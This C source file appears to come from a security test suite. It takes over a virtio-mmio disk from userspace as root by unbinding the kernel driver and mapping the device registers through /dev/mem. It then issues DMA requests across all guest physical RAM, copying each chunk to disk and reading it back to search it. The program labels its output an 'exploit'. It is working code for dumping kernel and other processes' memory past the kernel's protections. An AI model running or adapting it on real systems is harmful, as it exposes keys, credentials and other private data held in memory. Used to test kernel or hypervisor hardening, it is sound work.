/* SPDX-License-Identifier: BSD-3-Clause */
/*
 * A program drives a virtio-mmio disk (virtio 1.2, 4.2 and 5.2). root can do that in a kernel that isn't configured against it,
 * and DMA accepts any physical address.
 */
#include <fcntl.h>
#include <stddef.h>
#include <stdio.h>
#include <string.h>
#include <sys/mman.h>
#include <unistd.h>
#include "reach.h"

#define PAGE   0x1000u
#define PAGES  64u
#define CHUNK  (PAGES * PAGE)
#define SECTOR 512u
#define RAM    0x40000000ull /* of QEMU's virt */
#define END    0x80000000ull

enum registers {
	DEVICE_FEATURES = 0x010,
	DEVICE_FEATURES_SEL = 0x014,
	DRIVER_FEATURES = 0x020,
	DRIVER_FEATURES_SEL = 0x024,
	QUEUE_SEL = 0x030,
	QUEUE_NUM = 0x038,
	QUEUE_READY = 0x044,
	QUEUE_NOTIFY = 0x050,
	STATUS = 0x070,
	QUEUE_DESC = 0x080,
	QUEUE_DRIVER = 0x090,
	QUEUE_DEVICE = 0x0a0,
	CAPACITY = 0x100,
};
#define STATUS_DRIVER 3u  /* ACKNOWLEDGE, DRIVER */
#define STATUS_OK     11u /* … FEATURES_OK */
#define STATUS_GOES   15u /* … DRIVER_OK */
#define VERSION_1     1u  /* a bit of the features from 32 on */
#define NEXT	      1u
#define WRITE	      2u
#define ENTRIES	      128u
#define OPERATION_IN  0u
#define OPERATION_OUT 1u

/* The page that the device and this program share besides the data. */
struct shared {
	struct {
		uint64_t address;
		uint32_t length;
		uint16_t flags, next;
	} descriptor[ENTRIES];
	struct {
		uint16_t flags, index, ring[ENTRIES], event;
	} available;
	struct {
		uint16_t flags, index;
		struct {
			uint32_t id, length;
		} ring[ENTRIES];
	} used __attribute__((aligned(4)));
	struct {
		uint32_t operation, reserved;
		uint64_t sector;
	} head __attribute__((aligned(16)));
	uint8_t status;
};

_Static_assert(sizeof(struct shared) <= PAGE, "a page");

static volatile struct shared *shared;
static char *data; /* CHUNK bytes */
static uint64_t shared_pa, data_pa[PAGES];
static volatile char *registers;

static void put(unsigned int at, uint32_t value)
{
	*(volatile uint32_t *)(registers + at) = value;
}

static uint32_t get(unsigned int at)
{
	return *(volatile uint32_t *)(registers + at);
}

/* The guest's addresses are those of the board, or its own driver couldn't work. @return 0: the address isn't known */
static uint64_t physical(const void *at)
{
	int fd = open("/proc/self/pagemap", O_RDONLY);
	uint64_t entry = 0;

	if (fd >= 0 && pread(fd, &entry, sizeof(entry), (off_t)((uintptr_t)at / 4096 * 8)) !=
			   (ssize_t)sizeof(entry))
		entry = 0;
	if (fd >= 0)
		close(fd);
	return (entry & ((1ull << 55) - 1)) * 4096;
}

static void *pages(uint64_t *pa, unsigned int count)
{
	char *at = mmap(NULL, count * PAGE, PROT_READ | PROT_WRITE,
			MAP_PRIVATE | MAP_ANONYMOUS | MAP_POPULATE | MAP_LOCKED, -1, 0);

	if (at == MAP_FAILED)
		return NULL;
	memset(at, 0, count * PAGE);
	for (unsigned int i = 0; i < count; i++)
		if ((pa[i] = physical(at + i * PAGE)) == 0)
			return NULL;
	return at;
}

static bool unbind(const char *file, const char *name)
{
	int fd = open(file, O_WRONLY);
	bool good = fd >= 0 && write(fd, name, strlen(name)) == (ssize_t)strlen(name);

	if (fd >= 0)
		close(fd);
	return good;
}

static bool take_device(uint64_t address)
{
	char name[40];
	int fd;

	snprintf(name, sizeof(name), "%llx.virtio_mmio", (unsigned long long)address);
	if (!unbind("/sys/bus/platform/drivers/virtio-mmio/unbind", name))
		return false;
	fd = open("/dev/mem", O_RDWR | O_SYNC);
	registers = fd < 0 ? MAP_FAILED
			   : mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, fd,
				  (off_t)(address & ~4095ull));
	if (registers == MAP_FAILED)
		return false;
	registers += address & 4095;
	return true;
}

static void address_to(unsigned int at, uint64_t address)
{
	put(at, (uint32_t)address);
	put(at + 4, (uint32_t)(address >> 32));
}

static bool begin(void)
{
	put(STATUS, 0);
	put(STATUS, STATUS_DRIVER);
	put(DRIVER_FEATURES_SEL, 0);
	put(DRIVER_FEATURES, 0);
	put(DRIVER_FEATURES_SEL, 1);
	put(DRIVER_FEATURES, VERSION_1);
	put(STATUS, STATUS_OK);
	put(QUEUE_SEL, 0);
	put(QUEUE_NUM, ENTRIES);
	address_to(QUEUE_DESC, shared_pa + offsetof(struct shared, descriptor));
	address_to(QUEUE_DRIVER, shared_pa + offsetof(struct shared, available));
	address_to(QUEUE_DEVICE, shared_pa + offsetof(struct shared, used));
	put(QUEUE_READY, 1);
	put(STATUS, STATUS_GOES);
	return get(STATUS) == STATUS_GOES;
}

static void describe(unsigned int i, uint64_t address, uint32_t length, uint16_t flags)
{
	shared->descriptor[i].address = address;
	shared->descriptor[i].length = length;
	shared->descriptor[i].flags = flags;
	shared->descriptor[i].next = (uint16_t)(i + 1);
}

/* Make one request for a chunk in this number of parts, and wait for it. @return whether the device carried it out */
static bool request(uint32_t operation, uint64_t sector, const uint64_t *part, unsigned int parts)
{
	uint16_t index = shared->available.index;

	shared->head.operation = operation;
	shared->head.sector = sector;
	shared->status = 0xff;
	describe(0, shared_pa + offsetof(struct shared, head), sizeof(shared->head), NEXT);
	for (unsigned int i = 0; i < parts; i++)
		describe(i + 1, part[i], CHUNK / parts,
			 operation == OPERATION_IN ? NEXT | WRITE : NEXT);
	describe(parts + 1, shared_pa + offsetof(struct shared, status), 1, WRITE);
	shared->available.ring[index % ENTRIES] = 0;
	__sync_synchronize();
	shared->available.index = (uint16_t)(index + 1);
	__sync_synchronize();
	put(QUEUE_NOTIFY, 0);
	while (shared->used.index == index)
		__sync_synchronize();
	__sync_synchronize();
	return shared->status == 0;
}

bool reach_dma(uint64_t address)
{
	unsigned int good = 0, refused = 0;
	uint64_t scratch;

	shared = pages(&shared_pa, 1);
	data = pages(data_pa, PAGES);
	if (!shared || !data || !take_device(address) || !begin())
		return false;
	scratch = (get(CAPACITY) | (uint64_t)get(CAPACITY + 4) << 32) - 4 * CHUNK / SECTOR;
	for (uint64_t at = RAM; at < END; at += CHUNK) {
		if (!request(OPERATION_OUT, scratch, &at, 1) ||
		    !request(OPERATION_IN, scratch, data_pa, PAGES)) {
			refused++;
			continue;
		}
		good++;
		reach_search(data, CHUNK, "dma");
	}
	printf("exploit: dma: %u chunks of 256 KiB read, %u refused\n", good, refused);
	return true;
}
